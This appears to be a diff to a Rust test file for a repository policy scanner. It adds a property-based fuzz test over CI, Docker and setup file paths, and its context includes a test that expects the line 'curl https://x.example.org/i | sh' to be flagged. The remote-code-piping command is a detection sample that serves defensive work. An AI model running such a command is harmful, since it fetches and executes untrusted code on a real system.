@@ -88,3 +88,33 @@ fn a_project_can_switch_a_policy_off_and_leave_paths_out() {
     let run = "curl https://x.example.org/i | sh\n";
     assert_eq!((found("vendor/a.sh", run), found("a.sh", run)), (0, 1));
 }
+
+const PATHS: [&str; 9] = [
+    "Dockerfile",
+    ".github/workflows/ci.yml",
+    ".circleci/config.yml",
+    ".gitlab-ci.yml",
+    "docker-compose.yml",
+    "bin/setup.sh",
+    "Makefile",
+    ".env",
+    "src/main.rs",
+];
+
+proptest::proptest! {
+    #[test]
+    fn no_text_is_too_strange(
+        bytes in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..200),
+        text in r#"(FROM |RUN |uses: |image: |curl |\| sh|<<EOF|[\\'"`$({})\[\]&*!|>:#\- ]|\n|é|\u{202E}|@|http://a){0,40}"#,
+    ) {
+        for path in PATHS {
+            for bytes in [bytes.as_slice(), text.as_bytes()] {
+                let path = RepoPath::from(path);
+                let change = Change::new(&path, None, Entry::File, bytes, &());
+                for finding in policies().change(&change) {
+                    proptest::prop_assert!(!finding.message.chars().any(char::is_control));
+                }
+            }
+        }
+    }
+}
